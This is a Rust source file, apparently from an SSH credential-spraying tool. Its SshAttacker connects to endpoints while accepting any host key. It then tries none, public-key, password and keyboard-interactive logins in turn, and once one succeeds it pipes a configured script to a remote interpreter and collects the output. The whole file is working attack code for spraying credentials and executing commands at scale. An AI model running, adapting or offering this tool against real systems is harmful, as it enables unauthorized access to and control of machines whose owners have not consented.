use crate::error::AttackError;
use crate::models::{AttackResult, AuthMethod, Endpoint, SprayConfig};
use async_trait::async_trait;
use russh::client::{self, Handle, KeyboardInteractiveAuthResponse};
use russh::{ChannelMsg, Disconnect};
use russh_keys::key::PublicKey;
use std::sync::Arc;
use std::time::Duration;
use tokio::net::TcpStream;
use tokio::time::timeout;
use tracing::debug;

/// Runs the configured script against one endpoint.
#[async_trait]
pub trait Attack: Send + Sync {
    async fn attack(&self, endpoint: Endpoint) -> AttackResult;
}

/// Host keys are never checked.
struct AcceptAnyHostKey;

#[async_trait]
impl client::Handler for AcceptAnyHostKey {
    type Error = russh::Error;

    async fn check_server_key(
        &mut self,
        _server_public_key: &PublicKey,
    ) -> Result<bool, Self::Error> {
        Ok(true)
    }
}

pub struct SshAttacker {
    config: Arc<SprayConfig>,
    ssh_config: Arc<client::Config>,
}

impl SshAttacker {
    pub fn new(config: Arc<SprayConfig>) -> Self {
        Self {
            config,
            ssh_config: Arc::new(client::Config::default()),
        }
    }

    /// TCP connect, then SSH handshake and authentication. Each step gets
    /// its own full timeout window.
    async fn connect(&self, endpoint: Endpoint) -> Result<Handle<AcceptAnyHostKey>, AttackError> {
        let stream = timeout(self.config.timeout, TcpStream::connect(endpoint.addr()))
            .await
            .map_err(|_| AttackError::DialTimeout)?
            .map_err(AttackError::Dial)?;

        timeout(self.config.timeout, async {
            let mut handle =
                client::connect_stream(Arc::clone(&self.ssh_config), stream, AcceptAnyHostKey)
                    .await
                    .map_err(AttackError::Handshake)?;
            authenticate(&mut handle, &self.config).await?;
            Ok::<_, AttackError>(handle)
        })
        .await
        .map_err(|_| AttackError::HandshakeTimeout)?
    }

    /// Feeds the script to the interpreter and collects combined output.
    /// `Err((None, _))` means nothing ran on the target.
    ///
    /// Every wait on the session is bounded by the connection timeout, and
    /// `exec_timeout`, when set, caps the whole script run on top of that.
    async fn run_script(
        &self,
        handle: &Handle<AcceptAnyHostKey>,
    ) -> Result<Vec<u8>, (Option<Vec<u8>>, AttackError)> {
        let idle = self.config.timeout;
        let mut channel = match timeout(idle, handle.channel_open_session()).await {
            Ok(Ok(channel)) => channel,
            Ok(Err(error)) => return Err((None, AttackError::SessionOpen(error))),
            Err(_) => return Err((None, AttackError::SessionOpenTimeout)),
        };

        let mut output = Vec::new();
        let collected = match self.config.exec_timeout {
            Some(limit) => timeout(limit, self.exec(&mut channel, idle, &mut output))
                .await
                .unwrap_or(Err(AttackError::ExecTimeout)),
            None => self.exec(&mut channel, idle, &mut output).await,
        };

        let _ = channel.close().await;

        match collected {
            Ok(()) => Ok(output),
            Err(error) => Err((Some(output), error)),
        }
    }

    async fn exec(
        &self,
        channel: &mut russh::Channel<client::Msg>,
        idle: Duration,
        output: &mut Vec<u8>,
    ) -> Result<(), AttackError> {
        let command = self.config.interpreter.as_str();
        channel
            .exec(true, command.as_bytes())
            .await
            .map_err(AttackError::Exec)?;

        // Each attack reads the shared script through its own cursor.
        timeout(idle, channel.data(&self.config.script[..]))
            .await
            .map_err(|_| AttackError::SessionTimeout(idle))?
            .map_err(AttackError::Stdin)?;
        let _ = channel.eof().await;

        collect_output(channel, command, idle, output).await
    }
}

#[async_trait]
impl Attack for SshAttacker {
    async fn attack(&self, endpoint: Endpoint) -> AttackResult {
        let handle = match self.connect(endpoint).await {
            Ok(handle) => handle,
            Err(error) => return AttackResult::setup_failure(endpoint, error),
        };
        debug!("[{endpoint}] authenticated as {}", self.config.user);

        let result = match self.run_script(&handle).await {
            Ok(output) => AttackResult::success(endpoint, output),
            Err((None, error)) => AttackResult::setup_failure(endpoint, error),
            Err((Some(output), error)) => AttackResult::execution_failure(endpoint, output, error),
        };

        let _ = handle
            .disconnect(Disconnect::ByApplication, "", "en")
            .await;
        result
    }
}

/// Tries `none` and then every configured method, in order, until one is accepted.
async fn authenticate(
    handle: &mut Handle<AcceptAnyHostKey>,
    config: &SprayConfig,
) -> Result<(), AttackError> {
    let user = config.user.as_str();

    if handle
        .authenticate_none(user)
        .await
        .map_err(AttackError::Handshake)?
    {
        return Ok(());
    }

    let mut tried = vec!["none"];
    for method in &config.auth {
        tried.push(method.name());
        let accepted = match method {
            AuthMethod::PublicKey(key) => handle
                .authenticate_publickey(user, Arc::clone(key))
                .await
                .map_err(AttackError::Handshake)?,
            AuthMethod::Password(password) => handle
                .authenticate_password(user, password.as_str())
                .await
                .map_err(AttackError::Handshake)?,
            AuthMethod::KeyboardInteractive(password) => {
                keyboard_interactive(handle, user, password).await?
            }
        };
        if accepted {
            return Ok(());
        }
    }

    Err(AttackError::AuthRejected {
        user: user.to_string(),
        methods: tried.join(" "),
    })
}

async fn keyboard_interactive(
    handle: &mut Handle<AcceptAnyHostKey>,
    user: &str,
    password: &str,
) -> Result<bool, AttackError> {
    let mut response = handle
        .authenticate_keyboard_interactive_start(user, None::<String>)
        .await
        .map_err(AttackError::Handshake)?;

    loop {
        match response {
            KeyboardInteractiveAuthResponse::Success => return Ok(true),
            KeyboardInteractiveAuthResponse::Failure => return Ok(false),
            KeyboardInteractiveAuthResponse::InfoRequest { prompts, .. } => {
                let answers = prompts.iter().map(|_| password.to_string()).collect();
                response = handle
                    .authenticate_keyboard_interactive_respond(answers)
                    .await
                    .map_err(AttackError::Handshake)?;
            }
        }
    }
}

/// Drains stdout and stderr into `output` until the channel closes, then
/// turns the exit report into an error when it is not a clean zero. Fails
/// with `SessionTimeout` once the channel stays silent for `idle`.
async fn collect_output(
    channel: &mut russh::Channel<client::Msg>,
    command: &str,
    idle: Duration,
    output: &mut Vec<u8>,
) -> Result<(), AttackError> {
    let mut exit_status = None;
    let mut exit_signal = None;

    loop {
        let msg = match timeout(idle, channel.wait()).await {
            Ok(Some(msg)) => msg,
            Ok(None) => break,
            Err(_) => return Err(AttackError::SessionTimeout(idle)),
        };
        match msg {
            ChannelMsg::Data { ref data } => output.extend_from_slice(data),
            ChannelMsg::ExtendedData { ref data, .. } => output.extend_from_slice(data),
            ChannelMsg::ExitStatus { exit_status: status } => exit_status = Some(status),
            ChannelMsg::ExitSignal {
                signal_name,
                error_message,
                ..
            } => exit_signal = Some((format!("{signal_name:?}"), error_message)),
            ChannelMsg::Failure => {
                return Err(AttackError::CommandRejected {
                    command: command.to_string(),
                })
            }
            _ => {}
        }
    }

    match (exit_status, exit_signal) {
        (Some(0), _) => Ok(()),
        (Some(status), _) => Err(AttackError::ExitStatus(status)),
        (None, Some((signal, message))) => Err(AttackError::ExitSignal { signal, message }),
        (None, None) => Err(AttackError::ExitMissing),
    }
}
